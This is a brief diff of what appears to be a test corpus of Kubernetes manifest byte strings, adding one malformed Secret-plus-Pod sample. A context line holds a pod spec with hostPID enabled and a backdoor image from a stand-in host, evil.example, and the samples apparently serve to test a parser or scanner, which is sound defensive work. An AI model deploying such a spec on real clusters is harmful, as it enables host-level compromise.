@@ -129,6 +129,7 @@ POD = b"spec: {hostPID: true, containers: [{image: evil.example/backdoor}]}"
         b"kind: ConfigMap\ndata: {x: evil.example}\nkind: Secret\nmetadata: {name: {{ .n }}}\n",
         b"kind: Secret\ndata:\n  k: {{ .k }}\n  x: evil.example {{ .y }}\n",
         b"kind: Secret\ndata:\n  k: {{ .k |\n default 1 }}\n  x: evil.example\n",
+        b"kind: Secret\n---\nkind: Pod # \0\nimage: evil.example {{ .x }}\n",
         # What nobody can read.
         b"kind: Secret\ndata: {p: evil.example\n",
     ],
